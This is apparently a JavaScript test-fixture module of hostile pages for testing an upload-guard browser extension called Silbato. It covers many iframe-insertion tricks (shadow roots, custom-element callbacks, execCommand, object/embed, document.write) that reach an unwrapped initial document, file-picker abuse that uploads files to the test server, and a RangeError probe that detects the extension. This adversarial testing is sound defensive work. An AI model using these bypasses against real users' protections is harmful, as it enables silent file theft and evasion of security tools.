// Hostile pages for the third attack on the upload guard (issue 15): ways
// to connect a frame, and so make a first, empty document (a realm no
// content script runs in), that realms.js does not see in time, and ways to
// tell Silbato is there through its new wrappers. Served by server.mjs at
// /attack3-…; every page uploads whatever file reaches it to /upload, so the
// tests judge the bytes the server received. Tests: attack3.test.mjs.

import { grabbedPickerPage, grabScript, js, sendScript as send } from './uploads.mjs';

/**
 * The ways to connect a frame tried here, each leaving in `window.grabbed`
 * the first document's window and in `window.grabbedPicker` its showPicker,
 * both taken before Silbato's walk could wrap that realm (if it ever does):
 * - shadow / closedshadow: the frame appended to an open / closed shadow
 *   root with `ShadowRoot.prototype.append` (DocumentFragment's, not in
 *   realms.js's list; a MutationObserver on the document does not see into
 *   shadow trees); then `window[i]`;
 * - shadowprepend, shadowreplace: the same with prepend / replaceChildren;
 * - ce: a custom element's connectedCallback, run inside a wrapped
 *   appendChild after the frame before it was connected, before the
 *   wrapper's walk;
 * - script: an inline script inserted with the frame by one wrapped
 *   appendChild (it runs during the insertion, before the walk);
 * - fragment: the same from Range.createContextualFragment, inserted with
 *   Range.insertNode;
 * - object / embed: an <object>/<embed> of an HTML address, whose frame
 *   Chromium makes later, outside any wrapped call; read as `window[i]`
 *   when it appears;
 * - innerhtml / outerhtml / adjacent: markup holding a frame and a
 *   defined custom element (innerHTML, outerHTML, insertAdjacentHTML),
 *   whose connectedCallback reads window[i];
 * - isattr: the same with a customized built-in (`<button is=…>`);
 * - markupload: innerHTML with a frame and a second, addressless frame
 *   whose onload reads the first's window;
 * - docwrite: document.write of a frame and a script, while the page loads;
 * - objectlate / embedlate: the same, once the page has loaded;
 * - objectparser / embedparser: the same in the page's own HTML, the frame
 *   made by Chromium once the parser has closed the element; a script
 *   right after it polls;
 * - objectshown / embedshown: the same, inserted hidden (display: none, so
 *   no frame yet), then shown by a style change in a later task, and its
 *   property looked up at once (Chromium makes the frame then);
 * - cebefore: a custom element put before the frame, in the same
 *   appendChild (its connectedCallback runs after every node is inserted);
 * - loadhandler: a second frame, with no address, inserted after the first
 *   by the same appendChild: its `load`, fired as it is connected, reads
 *   the first's window;
 * - parserload: the page's HTML: a frame, then a frame with no address
 *   whose onload (fired by Chromium as the parser inserts it, before any
 *   microtask checkpoint) reads window[0];
 * - shadownested: a frame in a closed shadow root, reached with contentWindow
 *   (so wrapped), and a second frame put into its first document with that
 *   realm's (wrapped) appendChild: Silbato's walk starts from the top window,
 *   whose frames do not include those in shadow trees, so it never reaches
 *   the second; read as `first[0]`;
 * - execcommand: execCommand('insertHTML') in a contenteditable (wrapped:
 *   the control);
 * - ceframe: a customized built-in frame (`<iframe is=x-frame>`) whose own
 *   connectedCallback reads window[i], appended by the page;
 * - ceframeparser: the same frame in the page's HTML, defined before it;
 * - ceframefrozen: ceframe with its prototype frozen before it is defined;
 * - execce / execinput: execCommand('insertHTML') of a frame and a custom
 *   element whose connectedCallback reads window[i] / with an input
 *   listener on the editor that does;
 * - execundo: a frame inserted with execCommand, deleted, and put back by
 *   execCommand('undo'), read as window[i] at once;
 * - adopt: a frame adopted from a template's document and appended
 *   (wrapped: the control).
 */
const WAYS = ['ceframe', 'ceframeparser', 'ceframefrozen', 'execce', 'execinput', 'execundo', 'objectparser', 'embedparser', 'objectshown', 'embedshown', 'innerhtml', 'outerhtml', 'adjacent', 'isattr', 'markupload', 'docwrite', 'objectlate', 'embedlate', 'cebefore', 'loadhandler', 'parserload', 'shadownested', 'shadow', 'closedshadow', 'shadowprepend', 'shadowreplace', 'ce', 'script', 'fragment', 'object', 'embed', 'execcommand', 'adopt'];

const grabbing = `
  const FRAME = '<iframe src="/px/never.gif" style="display:none"></iframe>';
  ${grabScript}
  function connect(via) {
    const before = window.length;
    if ((via === 'ceframe' || via === 'ceframeparser' || via === 'ceframefrozen') && !customElements.get('x-frame')) {
      const XFrame = class extends HTMLIFrameElement { connectedCallback() { grab(last()); } };
      if (via === 'ceframefrozen') Object.freeze(XFrame.prototype);
      customElements.define('x-frame', XFrame, { extends: 'iframe' });
    }
    if (via === 'shadow' || via === 'closedshadow' || via === 'shadowprepend' || via === 'shadowreplace') {
      const host = document.createElement('div');
      document.body.append(host);
      const root = host.attachShadow({ mode: via === 'closedshadow' ? 'closed' : 'open' });
      const f = frame();
      if (via === 'shadowprepend') root.prepend(f);
      else if (via === 'shadowreplace') root.replaceChildren(f);
      else root.append(f);
      if (window.length > before) grab(last());
    } else if (via === 'shadownested') {
      const host = document.createElement('div');
      document.body.append(host);
      const f = frame();
      host.attachShadow({ mode: 'closed' }).append(f);
      const a = f.contentWindow;
      a.stop();
      const g = a.document.createElement('iframe');
      g.src = '/px/never.gif';
      a.document.body.appendChild(g);
      grab(a[0]);
    } else if (via === 'ce') {
      customElements.define('x-grab', class extends HTMLElement { connectedCallback() { grab(last()); } });
      const box = document.createElement('div');
      box.append(frame(), document.createElement('x-grab'));
      document.body.appendChild(box);
    } else if (via === 'script') {
      const box = document.createElement('div');
      const s = document.createElement('script');
      s.textContent = 'grab(window[window.length - 1])';
      box.append(frame(), s);
      document.body.appendChild(box);
    } else if (via === 'fragment') {
      const range = document.createRange();
      range.selectNode(document.body);
      const frag = range.createContextualFragment(FRAME + '<script>grab(window[window.length - 1])<\\/script>');
      const r2 = document.createRange();
      r2.setStart(document.body, document.body.childNodes.length);
      r2.insertNode(frag);
    } else if (via === 'innerhtml' || via === 'outerhtml' || via === 'adjacent') {
      customElements.define('x-markup', class extends HTMLElement { connectedCallback() { grab(last()); } });
      const box = document.createElement('div');
      document.body.append(box);
      const markup = FRAME + '<x-markup></x-markup>';
      if (via === 'innerhtml') box.innerHTML = markup;
      else if (via === 'outerhtml') box.outerHTML = markup;
      else box.insertAdjacentHTML('afterend', markup);
    } else if (via === 'isattr') {
      customElements.define('x-button', class extends HTMLButtonElement { connectedCallback() { grab(last()); } }, { extends: 'button' });
      const box = document.createElement('div');
      document.body.append(box);
      box.innerHTML = FRAME + '<button is="x-button">x</button>';
    } else if (via === 'markupload') {
      const box = document.createElement('div');
      document.body.append(box);
      box.innerHTML = FRAME + '<iframe style="display:none" onload="grab(window[' + before + '])"></iframe>';
    } else if (via === 'docwrite') {
      document.write(FRAME + '<script>grab(window[window.length - 1])<\\/script>');
    } else if (via === 'cebefore') {
      customElements.define('x-early', class extends HTMLElement { connectedCallback() { grab(last()); } });
      const box = document.createElement('div');
      box.append(document.createElement('x-early'), frame());
      document.body.appendChild(box);
    } else if (via === 'loadhandler') {
      const box = document.createElement('div');
      const second = document.createElement('iframe');
      second.style.display = 'none';
      second.onload = () => grab(window[before]);
      box.append(frame(), second);
      document.body.appendChild(box);
    } else if (via === 'objectlate' || via === 'embedlate') {
      window.addEventListener('load', () => connect(via.slice(0, -4)));
    } else if (via === 'objectparser' || via === 'embedparser') {
      const poll = () => { if (window.length > 0) grab(last()); else setTimeout(poll, 0); };
      poll();
    } else if (via === 'objectshown' || via === 'embedshown') {
      const o = document.createElement(via.slice(0, -5));
      o.type = 'text/html';
      if (via === 'objectshown') o.data = '/px/never.gif'; else o.src = '/px/never.gif';
      o.style.cssText = 'width:10px;height:10px;display:none';
      document.body.append(o);
      setTimeout(() => {
        o.style.display = 'block';
        o.anything;
        if (window.length > before) grab(last());
      }, 50);
    } else if (via === 'object' || via === 'embed') {
      const o = document.createElement(via);
      o.type = 'text/html';
      if (via === 'object') o.data = '/px/never.gif'; else o.src = '/px/never.gif';
      o.style.cssText = 'width:10px;height:10px';
      document.body.append(o);
      const poll = () => { if (window.length > before) grab(last()); else setTimeout(poll, 0); };
      poll();
    } else if (via === 'execcommand') {
      const ed = document.createElement('div');
      ed.contentEditable = 'true';
      document.body.append(ed);
      ed.focus();
      document.execCommand('insertHTML', false, FRAME);
      if (window.length > before) grab(last());
    } else if (via === 'ceframe' || via === 'ceframefrozen') {
      const f = document.createElement('iframe', { is: 'x-frame' });
      f.src = '/px/never.gif';
      f.style.display = 'none';
      document.body.append(f);
    } else if (via === 'execce' || via === 'execinput' || via === 'execundo') {
      const ed = document.createElement('div');
      ed.contentEditable = 'true';
      document.body.append(ed);
      ed.focus();
      if (via === 'execce') {
        customElements.define('x-exec', class extends HTMLElement { connectedCallback() { grab(last()); } });
        document.execCommand('insertHTML', false, FRAME + '<x-exec></x-exec>');
      } else if (via === 'execinput') {
        ed.addEventListener('input', () => grab(last()));
        document.execCommand('insertHTML', false, FRAME);
      } else {
        // The frame put in and wrapped, deleted, and put back by undo: a new
        // first document, with no DOM function called.
        document.execCommand('insertHTML', false, FRAME);
        document.execCommand('selectAll');
        document.execCommand('delete');
        document.execCommand('undo');
        if (window.length > before) grab(last());
      }
    } else if (via === 'adopt') {
      const t = document.createElement('template');
      t.innerHTML = FRAME;
      const f = document.adoptNode(t.content.firstChild);
      document.body.append(f);
      if (window.length > before) grab(last());
    }
  }`;

/** On the person's click, a never-attached input opened with the showPicker of a first document reached `via`. */
function picker(query) {
  const via = WAYS.includes(query.get('via')) ? query.get('via') : 'shadow';
  // parserload: the page's own HTML holds a frame and, after it, a frame
  // with no address, whose load event Chromium fires as the parser inserts
  // it, before the microtask checkpoint where Silbato's observer walks.
  const early = via === 'parserload'
    ? '<iframe src="/px/never.gif" style="display:none"></iframe><iframe onload="grab(window[0])" style="display:none"></iframe>'
    : via === 'objectparser'
    ? '<object type="text/html" data="/px/never.gif" style="width:10px;height:10px"></object>'
    : via === 'embedparser'
    ? '<embed type="text/html" src="/px/never.gif" style="width:10px;height:10px">'
    : via === 'ceframeparser'
    ? '<script>connect("ceframeparser")</script><iframe is="x-frame" src="/px/never.gif" style="display:none"></iframe>'
    : '';
  return grabbedPickerPage({ grabbing, early, via });
}

/**
 * A visible frame kept at its first document, with a file input the page
 * writes into it with that realm's own functions; the person clicks it:
 * - via=open / closed: the frame in an open / closed shadow root (put in with
 *   ShadowRoot.prototype.append; a document's MutationObserver does not see
 *   into shadow trees, and `window[i]` does not count their frames), reached
 *   with contentWindow;
 * - via=script: the frame in the document, its realm taken by an inline
 *   script inserted with it by one appendChild (before Silbato's walk), and
 *   the page's capture listener put on that realm's window then.
 */
function visible(query) {
  const via = ['open', 'closed', 'script'].includes(query.get('via')) ? query.get('via') : 'open';
  return `<p id="status"></p><div id="host"></div><script>${send}
  const host = document.getElementById('host');
  const f = document.createElement('iframe');
  f.src = '/px/never.gif';
  f.style.cssText = 'width:400px;height:200px;border:1px solid';
  const setUp = (w) => {
    w.stop();
    const d = w.document;
    // That realm's own setter and listener.
    const inner = Object.getOwnPropertyDescriptor(w.Element.prototype, 'innerHTML').set;
    inner.call(d.body, '<input type="file" id="file">');
    const input = d.getElementById('file');
    w.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); }, true);
    // Where the input is drawn inside the frame (for the test's real click).
    window.inputBox = () => { const b = input.getBoundingClientRect(); return { x: b.x, y: b.y, width: b.width, height: b.height }; };
  };
  window.setUp = setUp;
  const via = ${js(via)};
  if (via === 'script') {
    const s = document.createElement('script');
    s.textContent = 'setUp(window[window.length - 1])';
    const box = document.createElement('div');
    box.append(f, s);
    host.appendChild(box);
  } else {
    const root = host.attachShadow({ mode: via });
    root.append(f);
    setUp(f.contentWindow);
  }
  window.ready = true;
</script>`;
}

/**
 * A visible frame whose first document (reached with contentWindow, so
 * wrapped and listened in) is replaced by a javascript: address's result:
 * the page then uses the frame's window it kept (`w.document`, no getter
 * of Silbato's in the way): an input the person clicks (via=input), or its
 * showPicker on an input never attached (via=picker).
 */
function jsurl(query) {
  const via = query.get('via') === 'picker' ? 'picker' : 'input';
  return `<button id="open">attach a photo</button><p id="status"></p><iframe id="f" src="/px/never.gif" style="width:400px;height:200px;border:1px solid"></iframe><script>${send}
  const f = document.getElementById('f');
  const w = f.contentWindow;
  w.stop();
  const first = w.document;
  f.src = 'javascript:"<body style=margin:0><input type=file id=file></body>"';
  const ready = () => {
    if (w.document === first || !w.document.getElementById('file')) return setTimeout(ready, 20);
    const input = w.document.getElementById('file');
    input.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); });
    window.ready = true;
  };
  ready();
  document.getElementById('open').onclick = () => {
    const input = document.createElement('input');
    input.type = 'file';
    input.addEventListener('change', () => { if (input.files.length) send([...input.files], 'change'); });
    try { w.HTMLInputElement.prototype.showPicker.call(input); document.getElementById('status').textContent = 'asked'; }
    catch (e) { document.getElementById('status').textContent = 'threw ' + e.name; }
  };
  window.via = ${js(via)};
</script>`;
}

/**
 * Without any user action: is a first document's appendChild a function of
 * another realm? A stack overflow met on entering a JavaScript function is a
 * RangeError of that function's realm; a native one of the caller's realm.
 * The probe runs in the first document's realm, so natively every
 * RangeError is that realm's; one of the top realm's shows Silbato's wrapper.
 */
const detect = `<p id="status"></p><script>
  const f = document.createElement('iframe');
  f.src = '/px/never.gif';
  f.style.display = 'none';
  document.body.append(f);
  const w = f.contentWindow;
  w.stop();
  const probe = new w.Function('fn', 'self', 'arg', \`
    let foreign = 0, own = 0;
    function r() {
      try { r(); } catch (e) {}
      try { fn.call(self, arg); } catch (e) {
        if (e && e.name === 'RangeError') { if (e instanceof RangeError) own++; else foreign++; }
      }
    }
    for (let k = 0; k < 2; k++) r();
    return { foreign, own };
  \`);
  const div = w.document.createElement('div');
  const child = w.document.createElement('span');
  const result = {};
  for (const [name, fn, self, arg] of [
    ['appendChild', w.Node.prototype.appendChild, div, child],
    ['showPicker', w.HTMLInputElement.prototype.showPicker, div, undefined],
    ['toString', w.Function.prototype.toString, w.Function, undefined],
    ['createElement', w.Document.prototype.createElement, w.document, 'p'],
  ]) result[name] = probe(fn, self, arg);
  window.result = result;
  document.getElementById('status').textContent = JSON.stringify(result);
</script>`;

/** The page at `path` (one of /attack3-…), or undefined. */
export function attack3Page(path, query) {
  if (path === '/attack3-picker') return picker(query);
  if (path === '/attack3-visible') return visible(query);
  if (path === '/attack3-detect') return detect;
  if (path === '/attack3-jsurl') return jsurl(query);
  return undefined;
}

export { WAYS };
